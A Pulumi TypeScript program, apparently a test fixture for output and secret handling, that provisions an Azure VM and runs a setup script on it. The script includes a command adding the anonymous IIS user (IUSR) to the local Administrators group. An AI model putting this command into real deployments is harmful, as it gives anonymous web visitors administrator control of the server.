import * as compute from "@pulumi/azure-native/compute";
import * as network from "@pulumi/azure-native/network";
import * as resources from "@pulumi/azure-native/resources";
import * as pulumi from "@pulumi/pulumi";

const fail = new pulumi.Config().getBoolean("fail");

const group = new resources.ResourceGroup("group");
const address = new network.PublicIPAddress("address", { resourceGroupName: group.name });
const vm = new compute.VirtualMachine("web", { resourceGroupName: group.name, vmName: "web-1", tags: { zone: pulumi.output(address.zones).apply((zones) => zones?.[0] ?? "none") } });

const script = pulumi.interpolate`Set-Content C:\\address.txt ${address.ipAddress}\nnet localgroup Administrators IUSR /add # ${vm.vmId}`;
new compute.VirtualMachineRunCommandByVirtualMachine("setup", {
  resourceGroupName: group.name,
  vmName: vm.name,
  source: { script },
  parameters: [
    { name: "encoded", value: script.apply((text) => Buffer.from(text).toString("base64")) },
    { name: "fourth", value: group.id.apply((id) => `rg-${id.split("/")[4]}`) },
    { name: "length", value: vm.vmId.apply((id) => id.length) as unknown as string },
    { name: "secret", value: pulumi.secret(vm.vmId).apply((id) => `canary ${id}`) },
    { name: "constant", value: vm.id.apply(() => "constant") },
  ],
});
vm.vmId.apply((id) => {
  if (fail && id !== undefined) throw new Error(`cannot use ${id}`);
  new compute.VirtualMachineExtension("inside", { resourceGroupName: group.name, vmName: "web-1", settings: { commandToExecute: `echo ${id}` } });
});
export const name = pulumi.interpolate`${group.name}/${resources.ResourceGroup.get("other", "/subscriptions/0/resourceGroups/other").location}`;
